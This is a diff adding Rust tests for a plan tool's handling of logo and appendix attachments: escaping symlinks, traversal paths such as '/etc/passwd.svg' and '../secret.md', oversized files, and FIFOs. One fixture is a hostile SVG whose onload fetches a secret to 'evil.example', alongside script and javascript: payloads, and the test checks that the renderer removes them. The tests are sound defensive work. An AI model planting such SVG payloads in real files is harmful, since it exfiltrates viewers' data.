@@ -435,3 +435,183 @@ fn a_maze_of_folder_links_inside_the_root_is_not_walked() {
         .collect();
     assert_eq!(empty.len(), 1, "{empty:#?}");
 }
+
+// ---------------------------------------------------------------- the logo and the appendices
+
+/// The `attachment` findings of `kplan check` on the base plan with `manifest` appended to its
+/// `kplan.toml` (and whatever the caller put in the folder).
+fn attachment_findings(plan: &Path, manifest: &str) -> Vec<serde_json::Value> {
+    common::append(&plan.join("kplan.toml"), manifest);
+    let (attachments, others): (Vec<_>, Vec<_>) = findings(plan)
+        .into_iter()
+        .partition(|d| d["code"] == "attachment");
+    // A folder link out of the plan is also reported as such, where the plan files are walked.
+    assert!(others.iter().all(|d| d["code"] == "parse"), "{others:#?}");
+    attachments
+}
+
+fn message(finding: &serde_json::Value) -> &str {
+    finding["message"].as_str().unwrap()
+}
+
+#[test]
+fn a_logo_or_appendix_linked_out_of_the_root_is_not_read() {
+    let plan = common::base_plan();
+    let out = outside();
+    std::fs::write(
+        out.path().join("secret.svg"),
+        format!("<svg xmlns=\"http://www.w3.org/2000/svg\"><title>{SECRET}</title></svg>"),
+    )
+    .unwrap();
+    std::fs::write(out.path().join("secret.md"), format!("# {SECRET}\n")).unwrap();
+    std::fs::create_dir(plan.path().join("vedlegg")).unwrap();
+    symlink(out.path().join("secret.svg"), plan.path().join("våpen.svg")).unwrap();
+    symlink(
+        out.path().join("secret.md"),
+        plan.path().join("vedlegg/mandat.md"),
+    )
+    .unwrap();
+    // A folder link on the way out is refused too.
+    symlink(out.path(), plan.path().join("felles")).unwrap();
+    let found = attachment_findings(
+        plan.path(),
+        "\n[render]\nlogo = \"våpen.svg\"\n\n[[appendices]]\nfile = \"vedlegg/mandat.md\"\n\n[[appendices]]\nfile = \"felles/secret.md\"\n",
+    );
+    assert_eq!(found.len(), 3, "{found:#?}");
+    for d in &found {
+        assert!(
+            message(d).contains("lenke som leder ut av planmappen"),
+            "{d:#}"
+        );
+    }
+}
+
+#[test]
+fn a_logo_or_appendix_path_out_of_the_root_is_refused_by_its_form() {
+    let plan = common::base_plan();
+    let found = attachment_findings(
+        plan.path(),
+        "\n[render]\nlogo = \"/etc/passwd.svg\"\n\n[[appendices]]\nfile = \"../secret.md\"\n",
+    );
+    assert_eq!(found.len(), 2, "{found:#?}");
+    for d in &found {
+        assert!(message(d).contains("leder ut av planmappen"), "{d:#}");
+    }
+}
+
+#[test]
+fn an_oversized_logo_or_appendix_is_refused() {
+    let plan = common::base_plan();
+    let mut svg = String::from("<svg xmlns=\"http://www.w3.org/2000/svg\">");
+    svg.push_str(&"<!-- padding -->".repeat(70_000));
+    svg.push_str("</svg>");
+    assert!(svg.len() > 1024 * 1024);
+    std::fs::write(plan.path().join("våpen.svg"), &svg).unwrap();
+    std::fs::write(plan.path().join("stor.md"), "# Stor\n".repeat(400_000)).unwrap();
+    let found = attachment_findings(
+        plan.path(),
+        "\n[render]\nlogo = \"våpen.svg\"\n\n[[appendices]]\nfile = \"stor.md\"\n",
+    );
+    let messages: Vec<&str> = found.iter().map(message).collect();
+    assert_eq!(messages.len(), 2, "{messages:#?}");
+    assert!(
+        messages[0].contains("mer enn de 1024 KiB en logo"),
+        "{messages:?}"
+    );
+    assert!(
+        messages[1].contains("mer enn de 2048 KiB et vedlegg"),
+        "{messages:?}"
+    );
+}
+
+#[test]
+fn a_fifo_as_logo_is_refused_without_blocking() {
+    let plan = common::base_plan();
+    mkfifo(&plan.path().join("våpen.svg"));
+    let found = attachment_findings(plan.path(), "\n[render]\nlogo = \"våpen.svg\"\n");
+    assert_eq!(found.len(), 1, "{found:#?}");
+    assert!(
+        message(&found[0]).contains("ikke en vanlig fil"),
+        "{found:#?}"
+    );
+}
+
+/// Decodes standard base64 (the logo's `data:` URI).
+fn base64_decode(text: &str) -> Vec<u8> {
+    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let values: Vec<u32> = text
+        .bytes()
+        .filter(|&b| b != b'=')
+        .map(|b| ALPHABET.iter().position(|&a| a == b).unwrap() as u32)
+        .collect();
+    let mut out = Vec::new();
+    for chunk in values.chunks(4) {
+        let n = chunk
+            .iter()
+            .enumerate()
+            .fold(0, |n, (i, v)| n | (v << (18 - 6 * i)));
+        out.extend_from_slice(&n.to_be_bytes()[1..chunk.len()]);
+    }
+    out
+}
+
+#[test]
+fn an_svg_logo_with_script_is_reported_and_never_published() {
+    let plan = common::base_plan();
+    std::fs::write(
+        plan.path().join("våpen.svg"),
+        format!(
+            r##"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" onload="fetch('https://evil.example/{SECRET}')">
+  <script>document.title = "{SECRET}"</script>
+  <foreignObject><p xmlns="http://www.w3.org/1999/xhtml">{SECRET}</p></foreignObject>
+  <a xlink:href="javascript:alert(1)"><path d="M0 0h10v10z" fill="#1f4e79"/></a>
+  <image href="https://evil.example/tracker.png"/>
+</svg>"##
+        ),
+    )
+    .unwrap();
+    let found = attachment_findings(plan.path(), "\n[render]\nlogo = \"våpen.svg\"\n");
+    assert_eq!(found.len(), 1, "{found:#?}");
+    assert!(
+        message(&found[0]).contains("<foreignObject>, <image>, <script>, onload, xlink:href"),
+        "{found:#?}"
+    );
+    // With the finding lowered, the document shows the logo as cleaned: the drawing, and none of
+    // the rest.
+    common::append(
+        &plan.path().join("kplan.toml"),
+        "\n[checks]\nattachment = \"warning\"\n",
+    );
+    let out = tempfile::tempdir().unwrap();
+    kplan()
+        .args(["render", "--today", "2026-11-27", "-q", "-o"])
+        .arg(out.path())
+        .arg(plan.path())
+        .assert()
+        .success();
+    let html = std::fs::read_to_string(out.path().join("plan.html")).unwrap();
+    let start = html
+        .find("src=\"data:image&#x2f;svg+xml;base64,")
+        .expect("the logo is shown")
+        + "src=\"data:image&#x2f;svg+xml;base64,".len();
+    let end = start + html[start..].find('"').unwrap();
+    let svg = String::from_utf8(base64_decode(&html[start..end].replace("&#x2f;", "/"))).unwrap();
+    assert!(
+        svg.contains("<path d=\"M0 0h10v10z\" fill=\"#1f4e79\">"),
+        "{svg}"
+    );
+    for gone in [
+        SECRET,
+        "script",
+        "onload",
+        "javascript",
+        "evil.example",
+        "foreignObject",
+    ] {
+        assert!(!svg.contains(gone), "{gone} in {svg}");
+    }
+    // The document lists the lowered finding, which names what was left out, as text.
+    for gone in [SECRET, "<script", "javascript", "evil.example"] {
+        assert!(!html.contains(gone), "{gone} in the document");
+    }
+}
